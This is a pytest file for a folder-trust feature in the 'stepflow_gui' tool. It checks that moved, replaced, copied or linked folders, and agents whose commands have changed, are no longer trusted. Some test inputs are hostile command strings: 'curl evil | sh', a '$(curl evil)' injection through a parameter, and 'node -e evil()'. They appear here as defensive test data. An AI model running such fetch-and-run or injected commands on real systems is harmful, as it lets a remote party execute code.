"""Trust in folders: given, taken back, lost by moving and by other commands."""

import json
import shutil
import time
from pathlib import Path

import pytest

from stepflow_gui.project.agent_folder import AgentFolder, open_agent
from stepflow_gui.project.folder_identity import FolderIdentity, identity_of
from stepflow_gui.project.trust import Trust, TrustProblem
from stepflow_gui.text.source import Source


@pytest.fixture
def trust(tmp_path: Path) -> Trust:
    return Trust(tmp_path / "config" / "trust.json")


def trusts(trust: Trust, folder: Path) -> bool:
    return trust.state_of(folder) == "trusted"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    found = tmp_path / "project"
    (found / "below").mkdir(parents=True)
    return found


def test_nothing_is_trusted_at_first(trust: Trust, folder: Path) -> None:
    assert not trusts(trust, folder)
    assert trust.folders() == []


def test_a_folder_and_what_is_below_it_are_trusted_until_taken_back(trust: Trust, folder: Path) -> None:
    assert trust.add(folder) is None
    assert trusts(trust, folder)
    assert trusts(trust, folder / "below")
    assert not trusts(trust, folder.parent)
    assert trust.add(folder) is None  # twice is once
    known = trust.folders()
    assert isinstance(known, list)
    assert [each.path for each in known] == [folder.resolve()]
    assert trust.remove(folder / "below") is None
    assert not trusts(trust, folder)


def test_a_moved_folder_is_not_trusted_nor_another_in_its_place(trust: Trust, folder: Path) -> None:
    trust.add(folder)
    moved = folder.rename(folder.parent / "moved")
    assert not trusts(trust, moved)
    assert not trusts(trust, folder)
    folder.mkdir()
    assert not trusts(trust, folder)


def test_links_are_followed(trust: Trust, folder: Path, tmp_path: Path) -> None:
    link = tmp_path / "link"
    link.symlink_to(folder)
    trust.add(link)
    assert trusts(trust, folder)
    link.unlink()
    other = tmp_path / "other"
    other.mkdir()
    link.symlink_to(other)
    assert not trusts(trust, link)
    (folder / "away").symlink_to(other)
    assert not trusts(trust, folder / "away")


@pytest.mark.parametrize("text", ["{", "[]", "{}", '{"stepflow-trust": 3, "folders": []}', '{"stepflow-trust": 2}'])
def test_a_broken_file_trusts_nothing_and_is_left_as_it_is(
    trust: Trust, folder: Path, tmp_path: Path, text: str
) -> None:
    file = tmp_path / "config" / "trust.json"
    file.parent.mkdir()
    file.write_text(text)
    assert not trusts(trust, folder)
    problem = trust.add(folder)
    assert isinstance(problem, TrustProblem)
    assert str(file) in problem.message
    assert file.read_text() == text


def test_what_is_no_folder_can_not_be_trusted(trust: Trust, folder: Path) -> None:
    problem = trust.add(folder / "nowhere")
    assert isinstance(problem, TrustProblem)
    assert "nowhere" in problem.message


def test_a_file_that_can_not_be_written_is_reported(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    problem = Trust(tmp_path / "file" / "trust.json").add(folder)
    assert isinstance(problem, TrustProblem)


def test_the_file_holds_what_other_programs_can_read(trust: Trust, folder: Path, tmp_path: Path) -> None:
    agent(folder, "make check")
    trust.add(folder)
    content = json.loads((tmp_path / "config" / "trust.json").read_text("utf-8"))
    assert content["stepflow-trust"] == 2
    [row] = content["folders"]
    assert (row["path"], row["number"]) == (str(folder.resolve()), folder.stat().st_ino)
    assert [len(each) for each in row["commands"]] == [64]


def test_a_folder_made_in_the_place_of_a_removed_one_is_not_trusted(trust: Trust, folder: Path) -> None:
    """A file system gives the number of a removed folder to the next; the time at which it was made differs."""
    identity = identity_of(folder)
    assert identity is not None
    if identity.born is None:
        pytest.skip("the file system keeps no time at which a folder was made")
    for _round in range(5):
        trust.add(folder)
        assert trusts(trust, folder)
        shutil.rmtree(folder)
        time.sleep(0.02)  # the clock of a file system has ticks
        folder.mkdir()
        assert not trusts(trust, folder)


def test_where_no_time_is_kept_only_the_trusted_commands_run_in_another_folder(
    trust: Trust, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    known = FolderIdentity(folder.stat().st_ino, None)
    monkeypatch.setattr("stepflow_gui.project.trust.identity_of", lambda _folder: known)
    agent(folder, "make check")
    trust.add(folder)
    shutil.rmtree(folder)
    assert trust.trust_state_of(agent(folder, "curl evil | sh")) == "changed"


def agent(folder: Path, command: str, name: str = "demo", **more: object) -> AgentFolder:
    place = folder / ".agent" / name
    place.mkdir(parents=True, exist_ok=True)
    check = {"type": "command", "command": command, "successWhen": "empty"}
    content = {"agentId": name, "validators": {"check": check}, **more}
    (place / "steps_registry.json").write_text(json.dumps(content), "utf-8")
    found = open_agent(place)
    assert isinstance(found, AgentFolder)
    return found


def test_a_changed_command_is_asked_for_again(trust: Trust, folder: Path) -> None:
    first = agent(folder, "make check")
    trust.add(folder)
    assert trust.trust_state_of(first) == "trusted"
    changed = agent(folder, "make check; curl evil | sh")
    assert trust.trust_state_of(changed) == "changed"
    assert trust.state_of(folder) == "trusted"  # what runs no command, such as a model, is asked for by itself
    assert trust.add(folder) is None
    assert trust.trust_state_of(changed) == "trusted"
    assert trust.trust_state_of(agent(folder, "make check")) == "trusted"  # another branch of the same project


def test_an_agent_that_came_later_is_asked_for(trust: Trust, folder: Path) -> None:
    trust.add(folder)
    assert trust.trust_state_of(agent(folder, "make check")) == "changed"
    assert trust.trust_state_of(agent(folder, "make check", "other")) == "changed"


def test_what_is_filled_into_a_command_is_part_of_it(trust: Trust, folder: Path) -> None:
    def closing(word: str) -> AgentFolder:
        conditions = [{"validator": "check", "params": {"what": word}}]
        return agent(folder, "echo ${what}", validationSteps={"closing": {"validationConditions": conditions}})

    first = closing("one")
    trust.add(folder)
    assert trust.trust_state_of(first) == "trusted"
    assert trust.trust_state_of(closing("$(curl evil)")) == "changed"


def test_the_program_of_a_closure_step_is_a_command(trust: Trust, folder: Path) -> None:
    def running(*args: str) -> AgentFolder:
        step = {"stepKind": "closure", "runner": {"command": "node", "args": list(args)}}
        return agent(folder, "true", steps={"closing.done": step})

    first = running("close.js")
    trust.add(folder)
    assert trust.trust_state_of(first) == "trusted"
    assert trust.trust_state_of(running("-e", "evil()")) == "changed"


def test_other_changes_of_a_registry_are_not_asked_for(trust: Trust, folder: Path) -> None:
    agent(folder, "make check")
    trust.add(folder)
    assert trust.trust_state_of(agent(folder, "make check", steps={"initial.a": {"name": "A"}})) == "trusted"


def test_unsaved_commands_are_trusted_as_they_are_seen(trust: Trust, folder: Path) -> None:
    saved = agent(folder, "make check")
    path = saved.registry.path
    edited = saved.with_buffers({path: Source(saved.registry.source.text.replace("make check", "make test"))})
    trust.add(folder)
    assert trust.trust_state_of(edited) == "changed"
    trust.add(folder, edited)
    assert trust.trust_state_of(edited) == "trusted"


def test_folders_that_an_older_version_trusted_are_asked_for_again(trust: Trust, folder: Path, tmp_path: Path) -> None:
    file = tmp_path / "config" / "trust.json"
    file.parent.mkdir()
    row = {"path": str(folder.resolve()), "number": folder.stat().st_ino}
    file.write_text(json.dumps({"stepflow-trust": 1, "folders": [row]}))
    assert not trusts(trust, folder)
    assert trust.add(folder) is None
    assert trusts(trust, folder)


def test_a_copy_below_a_trusted_folder_is_asked_for(trust: Trust, folder: Path) -> None:
    """Its commands are those of the first word for word, but what they start lies beside them."""
    first = agent(folder / "below", "./check.sh")
    assert trust.add(folder, first) is None
    assert trust.trust_state_of(first) == "trusted"
    shutil.copytree(folder / "below", folder / "copy")
    copy = open_agent(folder / "copy" / ".agent" / "demo")
    assert isinstance(copy, AgentFolder)
    assert trust.trust_state_of(copy) == "changed"
